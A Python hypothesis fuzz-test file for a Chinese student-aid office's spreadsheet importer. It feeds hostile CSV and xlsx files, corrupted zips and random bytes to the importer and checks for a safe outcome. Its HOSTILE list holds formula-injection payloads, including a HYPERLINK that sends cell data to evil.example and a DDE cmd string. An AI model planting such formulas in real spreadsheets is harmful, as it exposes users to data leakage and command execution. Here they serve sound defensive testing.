"""The standing guard over the importer (issue 8): hypothesis builds hostile files — malformed zips,
random cells, formula text, control characters, rare ideographs, huge dimensions, 100,000-character
cells — and every import of them must end in a report or a Chinese refusal naming the file, never in
an unexpected error, and a refused import must write nothing.

CI runs a few hundred examples; a longer run: AIDOFFICE_FUZZ_EXAMPLES=5000 pytest tests/fuzz"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import zipfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from aidoffice.db.engine import Database
from aidoffice.db.models import Award, HouseholdMember, ImportBatch, ListEntry, ListSnapshot, Student
from aidoffice.domain.idnumber import make_id
from aidoffice.domain.text import CONTROL_CHARACTERS
from aidoffice.errors import AidofficeError, InputRefused
from aidoffice.importing.screening import column_limits
from aidoffice.importing.service import ImportOptions, run_import
from aidoffice.importing.workbook import write_report
from aidoffice.sheets.cells import clean_text
from aidoffice.sheets.kinds import KINDS
from tests.sheets import ENROLLMENT_HEADER, POVERTY_HEADER

pytestmark = pytest.mark.slow  # fuzzing: in CI, left out of a quick `-m "not slow"` run

EXAMPLES = int(os.environ.get("AIDOFFICE_FUZZ_EXAMPLES", "60"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.function_scoped_fixture,
    ],
    database=None,
)
TODAY = date(2026, 11, 22)
_CHINESE = re.compile(r"[\u4e00-\u9fff]")

HOSTILE = [
    '=HYPERLINK("http://evil.example/"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "#REF!",
    "#N/A",
    "#VALUE!",
    "\x1b[31m红\x1b[0m",
    "王\u202e五",
    "张\x00三",
    "\ufeff李四",
    "𠮷",
    "䶮",
    "阿卜杜·热合曼",
    "1e308",
    "inf",
    "nan",
    "1" * 40,
    "-375",
    "0",
    "130624201305030111",
    "1306242013050301",
    "130624130503011",
    "G130624201305030111",
    "J222222222222222222",
    "2026-2027-1",
    "2026-2027学年第一学期",
    "一补",
    "营养改善计划膳食补助",
    "义务教育家庭经济困难学生生活补助",
    "七年级",
    "1班",
    "住校",
    "是",
    "合计",
    "制表人：",
    "",
    " ",
]
LONG = "<100,000 个“长”>"  # expanded when the file is written: a shrunk example stays readable


def _expand(v: object) -> object:
    return "长" * 100_000 if v == LONG else v


texts = st.text(
    alphabet=st.sampled_from(
        list("张王李一二三七年级班村镇汉族是否0123456789X-=+@#.·𠮷䶮 \t\n\x00\x07\x1b\x7f\u202e\u2066")
    ),
    max_size=40,
)
cells = st.one_of(
    st.none(),
    st.sampled_from(HOSTILE),
    texts,
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=True, allow_infinity=True),
    st.dates(min_value=date(1900, 1, 1), max_value=date(2100, 1, 1)),
    st.booleans(),
    st.just(LONG),
)

KIND_HEADERS = {
    "students": ENROLLMENT_HEADER,
    "households": POVERTY_HEADER,
    "list": POVERTY_HEADER,
    "awards": ["姓名", "身份证件号", "全国学籍号", "资助项目", "学年学期", "金额", "发放日期", "批次"],
    "assessments": ["姓名", "身份证件号", "认定级别", "认定时间", "认定人", "认定原因", "学年"],
}


@st.composite
def sheets(draw: st.DrawFn) -> tuple[str, list[list]]:
    kind = draw(st.sampled_from(sorted(KIND_HEADERS)))
    header = list(KIND_HEADERS[kind])
    if draw(st.booleans()):  # a column or two nobody knows, or a header cell gone hostile
        header[draw(st.integers(0, len(header) - 1))] = draw(st.one_of(st.sampled_from(HOSTILE), texts))
    width = len(header)
    good_id = make_id("130624", date(2013, 5, 3), draw(st.integers(0, 999)))
    rows = [header]
    for _ in range(draw(st.integers(0, 6))):
        row = draw(st.lists(cells, min_size=width, max_size=width))
        if draw(st.booleans()) and "身份证件号" in header:  # often a real ID, so rows get further
            row[header.index("身份证件号")] = good_id
        rows.append(row)
    if draw(st.booleans()):
        rows.insert(0, [draw(st.sampled_from(["2026年秋季学期名单", *HOSTILE]))])
    return kind, rows


def _text(v: object) -> str:
    if v is None:
        return ""
    return str(v)


def write_csv(path: Path, rows: list[list], encoding: str) -> Path:
    buf = io.StringIO()
    csv.writer(buf).writerows([[_text(_expand(v)) for v in r] for r in rows])
    path.write_bytes(buf.getvalue().encode(encoding, errors="replace"))
    return path


def write_xlsx(path: Path, rows: list[list]) -> Path:
    wb = Workbook()
    ws = wb.active
    for r in rows:
        # openpyxl refuses control characters and caps a cell at 32,767 characters, as Excel does
        ws.append([clean_text(v)[:32_767] if isinstance(v, str) else v for v in map(_expand, r)])
    wb.save(path)
    return path


def mangle_zip(path: Path, how: str, position: int, byte: int) -> Path:
    data = bytearray(path.read_bytes())
    if how == "truncate":
        data = data[: max(4, position % len(data))]
    elif how == "flip":
        data[position % len(data)] ^= byte or 1
    elif how == "dimension":
        with zipfile.ZipFile(path) as z:
            items = [(i, z.read(i.filename)) for i in z.infolist()]
        with zipfile.ZipFile(path, "w") as z:
            for info, content in items:
                if info.filename == "xl/worksheets/sheet1.xml":
                    if position % 2:  # the stated range made absurd too; else left as it was, lying
                        content = re.sub(
                            rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', content
                        )
                    content = content.replace(
                        b"</sheetData>",
                        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t> </t></is></c></row></sheetData>',
                    )
                z.writestr(info, content)
        return path
    path.write_bytes(bytes(data))
    return path


COUNTED = (Student, Award, HouseholdMember, ListEntry, ListSnapshot, ImportBatch)


def counts(db: Database) -> tuple[int, ...]:
    with db.reading() as s:
        return tuple(s.scalar(select(func.count()).select_from(m)) for m in COUNTED)


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path) -> Database:
    from aidoffice.ledgers.school import setup_school

    path = tmp_path_factory.mktemp("fuzz") / "office.db"
    shutil.copy(sqlite_template, path)
    db = Database(str(path))
    with db.unit_of_work(actor="fuzz") as s:
        setup_school(s, "测试县第一中学", "3130624999", "测试县")
    yield db
    db.dispose()


def check_import(db: Database, path: Path, kind: str, out_dir: Path) -> None:
    """The importer's promise for any file at all."""
    before = counts(db)
    options = ImportOptions(kind=kind, today=TODAY, list_kind="poverty", term="2026-2027-1")
    try:
        with db.unit_of_work(actor="fuzz") as s:
            report = run_import(s, path, options)
    except AidofficeError as exc:
        message = str(exc)
        assert isinstance(exc, InputRefused) or "已取消" in message, message
        assert _CHINESE.search(message), message
        assert path.name in message, message
        assert "\x1b" not in message or path.name.count("\x1b")  # never an escape from a cell
        assert counts(db) == before, "a refused import wrote something"
        return
    except Exception as exc:  # pragma: no cover - what the guard is for
        raise AssertionError(f"unexpected {type(exc).__name__}: {exc}") from exc
    # a report: every refused row says why in Chinese, every row number is a real row
    for outcome in report.outcomes:
        assert outcome.row >= 1
        if outcome.reasons:
            assert all(_CHINESE.search(r) for r in outcome.reasons), outcome.reasons
            assert all(len(r) < 2_000 for r in outcome.reasons), "a message repeats a huge value"
    for w in report.warnings:
        assert len(w.reason) < 2_000
    # nothing stored carries a control character or more than its column holds
    limits = {**column_limits("students"), "name": 50}
    with db.reading() as s:
        for student in s.scalars(select(Student)):
            for column, limit in limits.items():
                value = getattr(student, column, None)
                if isinstance(value, str):
                    assert len(value) <= limit, (column, len(value))
                    assert not CONTROL_CHARACTERS.search(value), (column, value)
    # and the report workbook is written, with no formula in it
    target = write_report(report, out_dir / "结果.xlsx")
    ws = load_workbook(target)["逐行结果"]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)


@FUZZ
@given(sheet=sheets(), encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "utf-16-le"]))
def test_any_csv_ends_in_a_report_or_a_chinese_refusal(office, tmp_path_factory, sheet, encoding):
    """Whatever a CSV holds, in any encoding, the clerk gets a report or a Chinese refusal naming it, never a crash."""
    kind, rows = sheet
    work = tmp_path_factory.mktemp("csv")
    check_import(office, write_csv(work / "名单.csv", rows, encoding), kind, work)


@FUZZ
@given(sheet=sheets())
def test_any_workbook_ends_in_a_report_or_a_chinese_refusal(office, tmp_path_factory, sheet):
    """Whatever a workbook's cells hold, the clerk gets a report or a Chinese refusal naming it, never a crash."""
    kind, rows = sheet
    work = tmp_path_factory.mktemp("xlsx")
    check_import(office, write_xlsx(work / "名单.xlsx", rows), kind, work)


@FUZZ
@given(
    sheet=sheets(),
    how=st.sampled_from(["truncate", "flip", "dimension"]),
    position=st.integers(0, 1 << 20),
    byte=st.integers(0, 255),
)
def test_a_broken_or_absurd_workbook_is_read_or_refused_in_chinese(
    office, tmp_path_factory, sheet, how, position, byte
):
    """A damaged workbook, or one claiming a million rows, is read or refused in Chinese; never a crash."""
    kind, rows = sheet
    work = tmp_path_factory.mktemp("zip")
    path = mangle_zip(write_xlsx(work / "坏表.xlsx", rows), how, position, byte)
    check_import(office, path, kind, work)


@FUZZ
@given(data=st.binary(max_size=2_000), suffix=st.sampled_from([".xlsx", ".xls", ".csv", ".ods"]))
def test_any_bytes_at_all_are_read_or_refused(office, tmp_path_factory, data, suffix):
    """A file of any bytes under a table's name must never crash the import or leave half of it written."""
    work = tmp_path_factory.mktemp("bytes")
    path = work / f"名单{suffix}"
    path.write_bytes(data)
    check_import(office, path, "list", work)


def test_the_kinds_all_appear_in_the_fuzzed_headers():
    """An import kind left out of the fuzzing would go unguarded against hostile files."""
    assert set(KIND_HEADERS) == set(KINDS)
